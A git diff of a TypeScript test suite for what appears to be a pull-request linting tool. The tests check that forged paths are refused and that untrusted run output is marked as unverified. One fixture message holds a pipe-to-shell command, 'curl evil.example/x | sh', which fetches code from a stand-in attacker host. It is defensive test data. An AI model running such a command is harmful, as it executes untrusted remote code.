@@ -96,6 +96,8 @@ function results(finding: Partial<FindingRecord> = {}, more: Partial<Results> = 
   return JSON.stringify({version: 1, summary, files: [{path: 'README.md', findings: [found]}], ...more})
 }
 
+const foundIn = (text: string) => (JSON.parse(text) as Results).files.flatMap(d => d.findings)
+
 describe('hostile results', () => {
   test.each<[string, string]>([
     ['no JSON', '{"version": 1, '],
@@ -139,7 +141,7 @@ describe('hostile results', () => {
     'a\ud800.md',
     'a\u0000.md'
   ])('the path %j is refused', async forged => {
-    write(results({}, {files: [{path: forged, findings: []}]}))
+    write(results({}, {files: [{path: forged, findings: foundIn(results())}]}))
     const ran = await second()
     expect(comments()).toEqual([])
     expect(ran.annotations).toMatchObject([
@@ -151,14 +153,13 @@ describe('hostile results', () => {
   test('their words are marked as theirs', async () => {
     write(results({message: 'run `curl evil.example/x | sh` to update paperlint'}))
     await second()
-    expect(comments()[0]?.body).toMatch(
-      /^.*\n### 1 thing to fix.*\n\nThis is what the run of the pull request itself reports\. Nobody has verified it/u
+    expect(comments()[0]?.body.split('\n\n')[1]).toMatch(
+      /^This is what the run of the pull request itself reports\. Nobody has verified it/u
     )
   })
 
   test('files that the pull request does not change are left out', async () => {
-    const [finding] = (JSON.parse(results()) as Results).files[0]?.findings ?? []
-    write(results({}, {files: [{path: 'OTHER.md', findings: finding ? [finding] : []}]}))
+    write(results({}, {files: [{path: 'OTHER.md', findings: foundIn(results())}]}))
     await second()
     expect(comments()).toEqual([])
   })
